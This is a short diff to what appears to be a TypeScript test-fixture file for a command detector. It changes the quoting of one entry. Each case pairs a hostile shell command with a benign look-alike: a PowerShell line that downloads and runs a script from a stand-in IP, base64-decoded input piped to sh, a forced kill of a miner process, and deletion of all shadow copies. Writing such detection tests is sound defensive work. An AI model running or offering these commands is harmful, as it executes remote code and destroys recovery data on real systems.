@@ -37,7 +37,7 @@ export const commandCases: Record<string, readonly [string, string]> = {
   'kills-others': ['pkill -9 kinsing2', 'ps -ef'],
   'encoded-command': ['echo aWQ= | base64 -d | sh', 'base64 -d notes.b64'],
   'windows-download-run': [
-    "powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\"",
+    'powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a.ps1\')"',
     'kubectl completion powershell | Out-String | Invoke-Expression',
   ],
   'shadow-copies-deleted': ['vssadmin delete shadows /all /quiet', 'vssadmin list shadows'],
